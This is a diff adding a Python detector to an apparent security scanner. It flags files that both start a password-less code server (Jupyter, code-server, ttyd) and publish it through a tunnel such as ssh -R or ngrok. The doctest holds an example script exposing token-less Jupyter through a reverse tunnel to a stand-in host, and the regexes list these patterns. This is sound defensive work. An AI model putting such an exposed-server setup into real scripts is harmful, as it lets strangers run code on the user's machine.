@@ -1,0 +1,70 @@
+"""A service that runs code for whoever connects, opened without a password and published
+through a tunnel.
+
+The family: a "remote notebook", "share your terminal" or "pair with support" helper starts
+Jupyter with an empty token, code-server with ``--auth none`` or a web terminal (``ttyd``,
+``gotty``) on a shell, and publishes its port through ``ssh -R`` to a host the author
+wrote, or through ngrok, cloudflared, localtunnel or bore. Whoever reaches the tunnel runs
+code on the user's machine. Either half alone is ordinary: a token-less notebook inside a
+container, a tunnel that shows a web page.
+
+>>> script = "jupyter lab --ServerApp.token='' &\\nssh -fN -R 8888:localhost:8888 t@share.invalid"
+>>> [f.rule_id for f in exposed_service_findings("open.sh", script)]
+['exposed-code-server']
+>>> exposed_service_findings("open.sh", "jupyter lab --ServerApp.token='' --ip=0.0.0.0")
+[]
+"""
+
+from __future__ import annotations
+
+import re
+
+from .destinations import is_local
+from .findings import ThreatFinding, line_finding
+
+RULE_ID = "exposed-code-server"
+_OPEN_CODE_SERVER = re.compile(
+    r"\bjupyter(?:-lab|-notebook)?\b[^\n]*?--(?:NotebookApp|ServerApp|IdentityProvider)\.(?:token|password)"
+    r"(?:=|\s+)(?:''|\"\")"
+    r"|\bc\.(?:NotebookApp|ServerApp|IdentityProvider)\.(?:token|password)\s*=\s*(?:''|\"\")"
+    r"|\bcode-server\b[^\n]*--auth[=\s]+none\b"
+    r"|\b(?:ttyd|gotty)\b[^\n]*?\s(?:-W\s+)?(?:/bin/)?(?:bash|sh|zsh|fish|login|powershell|cmd)\b"
+)
+"""A server that runs code, started with no password or token."""
+_TUNNEL_SERVICE = re.compile(
+    r"\bngrok\s+(?:http|tcp|tls)\b|\bcloudflared\s+tunnel\b|\blt\s+(?:--port|-p)\b|\bbore\s+local\b"
+    r"|\blocaltunnel\b|\bserveo\.net\b|\blocalhost\.run\b|\bpinggy\.io\b"
+)
+"""A public tunnel service publishing a local port."""
+_REMOTE_FORWARD = re.compile(r"\bssh\b[^\n]*?\s-[A-Za-z]*R\b[^\n]*")
+_HOST_WORD = re.compile(r"(?:^|\s)(?:[\w.-]+@)?([A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+)(?=\s|$|['\"`])")
+
+
+def exposed_service_findings(path: str, text: str) -> list[ThreatFinding]:
+    """A finding at the tunnel line when the same file opens a password-less code server."""
+    if not _OPEN_CODE_SERVER.search(text):
+        return []
+    lines = text.splitlines()
+    for number, line in enumerate(lines, 1):
+        if _TUNNEL_SERVICE.search(line) or _forwards_to_public_host(line):
+            return [
+                line_finding(
+                    path,
+                    lines,
+                    number,
+                    "9.1",
+                    "high",
+                    "publishes a code server started without a password (Jupyter, code-server, "
+                    "a web terminal) through a tunnel: whoever reaches it runs code here",
+                    RULE_ID,
+                )
+            ]
+    return []
+
+
+def _forwards_to_public_host(line: str) -> bool:
+    """``ssh -R`` publishing a local port on a host that is not this machine's network."""
+    forward = _REMOTE_FORWARD.search(line)
+    if not forward:
+        return False
+    return any(not is_local(host) for host in _HOST_WORD.findall(forward.group()))
